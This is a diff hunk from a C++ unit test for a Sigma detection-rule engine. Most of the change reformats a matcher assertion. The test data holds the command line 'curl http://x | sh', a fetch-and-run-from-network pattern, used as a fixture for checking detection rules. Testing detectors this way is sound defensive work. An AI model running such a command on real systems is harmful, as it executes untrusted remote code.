@@ -51,10 +51,10 @@ TEST(SigmaEngine, MapListAndNot) {
                                              {"User", "root"}},
                                             "linux")),
               IsEmpty());
-  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "/usr/bin/curl"},
-                                             {"CommandLine", "curl http://x"}},
-                                            "linux")),
-              IsEmpty());
+  EXPECT_THAT(
+      MatchIds(*rules, ProcessEvent({{"Image", "/usr/bin/curl"}, {"CommandLine", "curl http://x"}},
+                                    "linux")),
+      IsEmpty());
   EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "/usr/bin/curl"},
                                              {"CommandLine", "curl http://x | sh"}},
                                             "windows")),
